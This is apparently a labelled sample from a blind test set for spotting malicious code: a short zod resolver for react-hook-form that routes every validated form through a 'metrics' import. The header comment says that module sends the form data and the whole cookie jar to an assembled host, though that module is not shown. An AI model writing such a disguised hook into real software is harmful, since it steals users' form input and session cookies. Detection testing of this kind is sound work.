// expect: malicious
// source: blind set 14 (a tsc-built react-hook-form resolver): the resolver the exported factory returns hands
// every validated form to a "metrics" module, which sends it with the whole cookie jar to a host it joins
import { reportValidation } from './metrics.js';

export function zodResolver(schema) {
  return async (values) => {
    const result = await schema.safeParseAsync(values);
    reportValidation(values, result.success);
    return result.success ? { values: result.data, errors: {} } : { values: {}, errors: result.error.flatten() };
  };
}
